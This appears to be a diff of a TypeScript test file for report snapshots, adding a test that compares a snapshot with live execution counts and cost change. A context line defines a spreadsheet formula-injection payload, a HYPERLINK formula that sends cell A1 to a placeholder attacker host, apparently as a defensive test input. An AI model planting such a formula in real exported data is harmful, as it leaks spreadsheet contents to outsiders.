@@ -12,6 +12,7 @@ import { newSnapshotId } from './ids';
 import { liveReportReader } from './live';
 import { parseSnapshotRequest } from './request';
 import { openSnapshot, revokeSnapshot, snapshotSummary, takeSnapshot } from './snapshots';
+import { compareWithLive, describeComparison } from './compare';
 
 const INJECTED = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
 const POLICY: TierPolicy = {
@@ -180,5 +181,39 @@ describe('share requests', () => {
       priceBook: 'jobs-tier1',
       objective: 'balanced',
     });
+  });
+});
+
+describe('compare with live', () => {
+  it('counts executions since the snapshot and the change in cost over the same length of window', async () => {
+    world.advanceTo(clock.now());
+    const taken = await share({});
+    expect(taken.document.report.totals.costUsd).toBeGreaterThan(0);
+    clock.advance(6 * 3_600_000);
+    world.advanceTo(clock.now());
+    const live = await readLiveReport()({
+      job: REEL_JOB,
+      window: { days: 1 },
+      priceBook: 'jobs-tier1',
+      objective: 'balanced',
+      nowMs: clock.now(),
+    });
+    const comparison = compareWithLive(taken.document.report, live.report, live.records.executions);
+    const startedAfter = live.records.executions.filter(
+      (e) =>
+        e.status !== 'running' &&
+        (e.startMs ?? e.createMs) >= taken.document.report.inputs.window.endMs,
+    );
+    expect(comparison.newerExecutions).toBe(startedAfter.length);
+    expect(comparison.newerExecutions).toBeGreaterThan(0);
+    expect(comparison.pricesChanged).toBe(false);
+    const expected =
+      ((live.report.totals.costUsd - taken.document.report.totals.costUsd) /
+        taken.document.report.totals.costUsd) *
+      100;
+    expect(comparison.costChangePercent).toBeCloseTo(expected, 10);
+    expect(describeComparison(comparison)).toMatch(
+      /^Since then: [\d,]+ more executions?, cost [+−]\d+(\.\d)?%\.$/,
+    );
   });
 });
